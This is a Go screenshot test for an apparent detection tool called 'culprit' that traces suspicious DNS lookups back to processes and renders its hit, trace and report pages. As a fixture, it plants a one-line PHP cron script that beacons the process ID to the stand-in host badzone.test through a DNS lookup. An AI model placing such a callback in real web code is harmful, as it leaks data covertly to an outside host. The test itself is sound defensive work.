//go:build pictures

package browser

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"

	"culprit/test/harness"
)

// TestPictures takes the pictures of the documents, of a hunt: `make screenshots`. Its tag keeps it out of make test, which needs no pictures.
func TestPictures(t *testing.T) {
	const site, evidence = "/srv/web1", "/var/lib/culprit"
	h := harness.NewHost(t, "")
	uid := harness.NewUID()
	user := fmt.Sprint(uid)
	passwd, err := os.ReadFile("/etc/passwd")
	if err != nil {
		t.Fatal(err)
	}
	h.Bind(t, "/etc/passwd", string(passwd)+"web1:*:"+user+":"+user+"::/:/bin/sh\n")
	// The machine that makes the pictures is nobody's business.
	h.Bind(t, "/proc/1/cmdline", "/sbin/init\x00")
	for _, dir := range []string{filepath.Dir(evidence), filepath.Dir(site)} {
		h.Must(t, "mount", "-t", "tmpfs", "none", dir)
	}
	h.Do(func() {
		err = os.MkdirAll(site, 0o755)
		for name, text := range map[string]string{
			"settings.ini": "host = badzone.test\n",
			"cron.php": `<?php $s = parse_ini_file("/srv/web1/settings.ini"); @file_get_contents("http://x" . getmypid() . "." . $s["host"] . "/");
`,
		} {
			if err == nil {
				err = os.WriteFile(filepath.Join(site, name), []byte(text), 0o644)
			}
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	h.Must(t, "ip", "address", "add", "192.0.2.1/32", "dev", "lo")
	h.StartAs(0, "python3", "-m", "http.server", "-b", "192.0.2.1", "-d", h.Dir, "80")
	harness.Eventually(t, "the web server answers", func() error {
		_, err := h.Run("curl", "-s", "-o", "/dev/null", "http://192.0.2.1/")
		return err
	})

	d := h.HuntWith(h.ConfigureIn(evidence, harness.Gated+"\nlookback: {users: [all], memory: 8MiB}\n"), evidence)
	for i := range 4 {
		// Its parent ends, so that none of the test's processes is among its own.
		h.StartAs(0, "setsid", "--fork", "setpriv", "--clear-groups", "--regid", user, "--reuid", user, "/bin/sh", "-c", "php "+site+"/cron.php; true").Wait()
		harness.Eventually(t, "all hits are proven", func() error {
			hits := d.Hits()
			if len(hits) < 2*(i+1) { // A and AAAA
				return fmt.Errorf("there are %d", len(hits))
			}
			for _, hit := range hits {
				if hit.Culprit.Proof == nil {
					return fmt.Errorf("%s is not", hit.Asks())
				}
			}
			return nil
		})
	}
	first := d.Hits()[0]
	harness.Eventually(t, "its look-back is read", func() error {
		if out := h.Culprit("show", "--evidence", evidence, first.Event.ID).Must(t); !strings.Contains(out, "192.0.2.1:80 over TCP") {
			return fmt.Errorf("%s", out)
		}
		return nil
	})

	p := open(t, served(t, h, evidence), 1200)
	face := func(scheme string) {
		p.do(emulation.SetEmulatedMedia().WithFeatures([]*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}}))
	}
	for _, one := range []struct {
		name, path, scheme string
		width, height      int64
	}{
		{"serve-hits", "/", "light", 1200, 560},
		{"serve-hit", "/hits/" + first.Event.ID, "light", 1200, 880},
		{"serve-trace", fmt.Sprintf("/traces/%s?line=%d", first.Culprit.Proof.Trace.ID, first.Culprit.Proof.Line), "light", 1200, 460},
		{"serve-narrow", "/", "dark", 400, 760},
	} {
		p.do(emulation.SetDeviceMetricsOverride(one.width, one.height, 1, one.width < 500))
		face(one.scheme)
		p.visit(one.path)
		picture(p, one.name)
	}
	file := filepath.Join(t.TempDir(), "report.html")
	h.Culprit("report", "--evidence", evidence, first.Event.ID, "--output", file).Must(t)
	face("light")
	for _, one := range []struct {
		name, from string
		height     int64
	}{{"report", "body", 880}, {"report-timeline", "#timeline", 500}} {
		p.do(emulation.SetDeviceMetricsOverride(1000, one.height, 1, false),
			chromedp.Navigate("file://"+file), chromedp.WaitReady("body", chromedp.ByQuery),
			chromedp.Evaluate(`document.querySelector("`+one.from+`").scrollIntoView()`, nil))
		picture(p, one.name)
	}
}

// served starts a server where the daemon is, which this machine's browser reaches by a port.
func served(t *testing.T, h *harness.Host, evidence string) *server {
	t.Helper()
	socket := filepath.Join(h.Dir, "serve.sock")
	h.StartAs(0, harness.Programs.Culprit, "serve", "--evidence", evidence, "--listen", "unix:"+socket)
	listen, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listen.Close() })
	go func() {
		for {
			from, err := listen.Accept()
			if err != nil {
				return
			}
			to, err := net.Dial("unix", socket)
			if err != nil {
				from.Close()
				continue
			}
			go func() {
				io.Copy(to, from)
				to.Close()
			}()
			go func() {
				io.Copy(from, to)
				from.Close()
			}()
		}
	}()
	harness.Eventually(t, "culprit serve listens", func() error {
		_, err := os.Stat(socket)
		return err
	})
	return &server{t: t, address: listen.Addr().String(), cmd: exec.Command("true")}
}
